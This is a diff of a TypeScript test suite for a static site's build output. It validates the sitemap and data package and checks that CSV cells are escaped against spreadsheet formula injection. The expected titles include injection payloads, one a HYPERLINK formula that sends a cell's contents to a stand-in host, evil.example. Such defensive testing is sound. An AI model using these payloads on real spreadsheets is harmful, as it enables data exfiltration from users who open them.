@@ -5,10 +5,15 @@
 // specials, RIS-like lines) built with SITE_URL set, which adds the sitemap
 // and absolute URLs. The clients are maintained third-party libraries that
 // need no network: xmllint (libxml2, as WebAssembly) with the sitemaps.org XSD
-// that the npm `sitemap` package ships.
+// that the npm `sitemap` package ships; Frictionless's datapackage-js (the
+// JavaScript implementation of the Data Package and Table Schema specs, its
+// profiles bundled) for datapackage.json and the CSV it describes; csv-parse
+// for the spreadsheet CSV's cells.
 import { copyFileSync, readdirSync, readFileSync } from 'node:fs';
 import { createRequire } from 'node:module';
 import { join } from 'node:path';
+import { parse as parseCsv } from 'csv-parse/sync';
+import { Package } from 'datapackage';
 import { validateXML } from 'xmllint-wasm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { buildTemp, type TempBuild } from '../support/build.ts';
@@ -29,6 +34,12 @@ beforeAll(() => {
   }, { env: { SITE_URL } });
 }, 300_000);
 afterAll(() => hostile?.remove());
+
+/** The two builds every client reads: [name, output folder]. */
+const builds = (): [string, string][] => [
+  ['seeds, SITE_URL unset', DIST],
+  ['seeds + hostile titles, SITE_URL set', hostile.out],
+];
 
 it('the hostile build builds', () => {
   expect(hostile.status, hostile.log).toBe(0);
@@ -74,5 +85,42 @@ describe('sitemap (sitemaps.org XSD, xmllint)', () => {
     expect(indexable.length).toBeGreaterThan(20);
     expect([...listed].sort()).toEqual(indexable.sort());
     console.log(`sitemap: ${listed.length} pages listed, ${pages.length - indexable.length} noindex pages left out`);
+  });
+});
+
+describe('data package (Frictionless datapackage-js)', () => {
+  for (const which of [0, 1]) {
+    it(`${which ? 'seeds + hostile titles' : 'seeds'}: datapackage.json is a valid tabular data package and its CSV reads with every value cast to its type`, async () => {
+      const [, out] = builds()[which]!;
+      const dir = join(out, 'data');
+      const pkg = await Package.load(join(dir, 'datapackage.json'), { basePath: dir });
+      expect(pkg.errors.map(String)).toEqual([]);
+      expect(pkg.valid).toBe(true);
+      const resource = pkg.getResource('articles')!;
+      // read() checks the header against the schema, casts every cell and checks the primary key.
+      const rows = await resource.read({ keyed: true, cast: true });
+      const archive = JSON.parse(page('/data/archive.json', out)) as { articles: Record<string, unknown>[] };
+      expect(rows).toHaveLength(archive.articles.length);
+      // The same records as archive.json, the text cells a spreadsheet would run as formulas prefixed with '.
+      const expected = archive.articles.map((a) => Object.fromEntries(Object.entries(a).map(([k, v]) => [k, typeof v === 'string' && /^[=+\-@]/.test(v) ? `'${v}` : v])));
+      const asJson = rows.map((r) => Object.fromEntries(Object.entries(r).map(([k, v]) => [k, v instanceof Date ? v.toISOString().slice(0, 10) : v])));
+      expect(asJson).toEqual(expected);
+      console.log(`frictionless: ${rows.length} rows valid (${builds()[which]![0]})`);
+    });
+  }
+});
+
+describe('articles.csv in a spreadsheet (CSV injection, OWASP)', () => {
+  it('no cell starts a formula: the hostile titles are prefixed with a single quote, and nothing else changes', () => {
+    const rows = parseCsv(page('/data/articles.csv', hostile.out), { bom: true, columns: true }) as Record<string, string>[];
+    const cells = rows.flatMap((r) => Object.values(r));
+    expect(cells.filter((c) => /^[=+\-@\t\r＝＋－＠]/.test(c))).toEqual([]);
+    const titles = rows.filter((r) => r.publication === 'ceshi-qingnian-gongzuo-xinxi').map((r) => r.title);
+    expect(titles).toEqual([
+      `'=HYPERLINK("http://evil.example/?"&A1,"点此")团测试市委推进工作`,
+      `'+1+2 团测试县委{青年}\\关于50% & $100 #1 _下划线_ ~^工作`,
+      `'@SUM(1+1)团测试区委“引号”"直引号"<尖括号>]]>探索`,
+      `'-1减负团测试县委工作`,
+    ]);
   });
 });
